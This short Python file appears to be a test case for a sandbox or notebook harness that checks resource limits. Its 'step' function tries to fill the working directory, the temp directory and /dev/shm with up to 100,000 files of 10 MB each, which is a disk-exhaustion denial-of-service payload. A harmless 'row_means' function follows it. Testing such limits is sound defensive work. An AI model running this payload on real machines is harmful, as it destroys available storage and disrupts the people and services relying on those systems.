# Fills every place that can be written to.
# expect: row_means 2
# %% step
def step(z):
    import tempfile

    for folder in (".", tempfile.gettempdir(), "/dev/shm"):
        number = 0
        while number < 100_000:
            with open(f"{folder}/full-{number}", "wb") as file:
                file.write(bytes(10_000_000))
            number += 1

# %% row_means
def row_means(x):
    return x.mean(axis=1)
